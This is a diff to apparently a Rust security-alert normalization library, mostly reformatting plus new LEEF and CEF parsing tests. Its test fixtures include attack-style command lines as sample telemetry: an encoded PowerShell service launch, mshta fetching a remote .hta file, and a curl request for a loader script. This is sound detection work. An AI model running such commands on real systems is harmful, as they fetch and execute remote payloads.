@@ -253,7 +253,12 @@ pub fn from_json_expanded(doc: Json, position: &str) -> Vec<Result<Alert, BadAle
     if let Json::Object(o) = &doc
         && let Some(items) = o
             .get("alerts")
-            .filter(|_| o.contains_key("incidentWebUrl") || o.get("@odata.type").and_then(Json::as_str).is_some_and(|t| t.ends_with("incident")))
+            .filter(|_| {
+                o.contains_key("incidentWebUrl")
+                    || o.get("@odata.type")
+                        .and_then(Json::as_str)
+                        .is_some_and(|t| t.ends_with("incident"))
+            })
             .or_else(|| o.get("value").filter(|_| o.contains_key("@odata.context")))
             .and_then(Json::as_array)
             .filter(|a| !a.is_empty() && a.iter().all(Json::is_object))
@@ -2571,9 +2576,17 @@ mod tests {
             "maliciousProcessArguments": "\"C:\\Users\\r\\AppData\\Roaming\\n\\node.exe\" \"C:\\Users\\r\\AppData\\Roaming\\n\\x.log\"",
             "originatorProcess": "explorer.exe", "processUser": "K\\r"},
             "indicators": [{"tactics": [{"techniques": [{"name": "T1059.007"}, {"name": "not-a-technique"}]}]}]}), "x").unwrap();
-        assert_eq!(th.doc["process"]["executable"], "C:\\Users\\r\\AppData\\Roaming\\n\\node.exe");
+        assert_eq!(
+            th.doc["process"]["executable"],
+            "C:\\Users\\r\\AppData\\Roaming\\n\\node.exe"
+        );
         assert_eq!(th.doc["process"]["name"], "node.exe");
-        assert!(th.doc["process"]["command_line"].as_str().unwrap().ends_with("x.log\""));
+        assert!(
+            th.doc["process"]["command_line"]
+                .as_str()
+                .unwrap()
+                .ends_with("x.log\"")
+        );
         assert_eq!(th.doc["threat"]["technique"]["id"], json!(["T1059.007"]));
         // The target's image path as documented, or the target in the source's field names.
         for target in [
@@ -3108,9 +3121,16 @@ mod tests {
         assert_eq!(t.doc["event"]["action"], "scheduled-task-created");
         assert_eq!(t.doc["user"]["name"], "sv");
         // A service installed (7045): the command services.exe will start; %COMSPEC% is cmd.
-        let sv = from_json(json!({"EventID": 7045, "Hostname": "SQL-2", "ServiceName": "c8d2e1f",
-            "ImagePath": "%COMSPEC% /b /c start /b /min powershell -enc SQBFAFgA"}), "x").unwrap();
-        assert_eq!(sv.doc["process"]["command_line"], "C:\\Windows\\System32\\cmd.exe /b /c start /b /min powershell -enc SQBFAFgA");
+        let sv = from_json(
+            json!({"EventID": 7045, "Hostname": "SQL-2", "ServiceName": "c8d2e1f",
+            "ImagePath": "%COMSPEC% /b /c start /b /min powershell -enc SQBFAFgA"}),
+            "x",
+        )
+        .unwrap();
+        assert_eq!(
+            sv.doc["process"]["command_line"],
+            "C:\\Windows\\System32\\cmd.exe /b /c start /b /min powershell -enc SQBFAFgA"
+        );
         assert_eq!(sv.doc["process"]["name"], "cmd.exe");
         assert_eq!(sv.doc["process"]["parent"]["name"], "services.exe");
         assert_eq!(sv.doc["service"]["name"], "c8d2e1f");
@@ -3279,6 +3299,25 @@ mod tests {
             "short_message": "[2025-07-29T16:40:12.551Z] I santad: action=EXEC|decision=ALLOW|reason=UNKNOWN|pid=3381|ppid=1|uid=501|user=mr|path=/Users/mr/.n/node|args=node /Users/mr/.n/i.js"}), "x").unwrap();
         assert_eq!(g.doc["process"]["executable"], "/Users/mr/.n/node");
         assert_eq!(g.doc["host"]["name"], "MBP-7");
+        // LEEF (CrowdStrike's SIEM connector) and CEF (a firewall) lines under a message field.
+        let leef = from_json(json!({"event": {"original": "<12>Jun 19 10:14:36 conn CrowdStrike LEEF:1.0|CrowdStrike|FalconHost|1.0|Suspicious Activity|cat=DetectionSummaryEvent\tresource=WKS-5\tusrName=jt\tfileName=mshta.exe\tfilePath=\\Device\\HarddiskVolume3\\Windows\\System32\\mshta.exe\tcommandLine=mshta.exe https://x.example/v.hta\tparentImageFileName=\\Device\\HarddiskVolume3\\Program Files\\Office\\WINWORD.EXE"}}), "x").unwrap();
+        assert_eq!(
+            leef.doc["process"]["executable"],
+            "C:\\Windows\\System32\\mshta.exe"
+        );
+        assert_eq!(
+            leef.doc["process"]["command_line"],
+            "mshta.exe https://x.example/v.hta"
+        );
+        assert_eq!(leef.doc["process"]["parent"]["name"], "WINWORD.EXE");
+        assert_eq!(leef.doc["user"]["name"], "jt");
+        assert_eq!(leef.doc["host"]["name"], "WKS-5");
+        let cef = from_json(json!({"message": "<189>CEF:0|Fortinet|Fortigate|v7.2.8|13312|utm:webfilter blocked|4|src=10.30.2.27 dst=203.0.113.200 dpt=80 act=blocked request=http://203.0.113.200/ldr.sh msg=URL belongs to a denied category requestClientApplication=curl/7.88.1"}), "x").unwrap();
+        assert_eq!(cef.doc["url"]["full"], "http://203.0.113.200/ldr.sh");
+        assert_eq!(cef.doc["user_agent"]["original"], "curl/7.88.1");
+        assert_eq!(cef.doc["destination"]["port"], 80);
+        assert_eq!(cef.doc["source"]["ip"], "10.30.2.27");
+        assert_eq!(cef.doc["observer"]["product"], "Fortigate");
         // A Sysdig Secure event: Falco's fields under `content.fields`, the rule as `ruleName`.
         let sd = from_json(json!({"id": "sd-1", "timestamp": "2025-04-02T09:14:55Z", "severity": 2, "name": "Sysdig Runtime Threat Detection",
             "labels": {"host.hostName": "ip-10-80-14-201"},
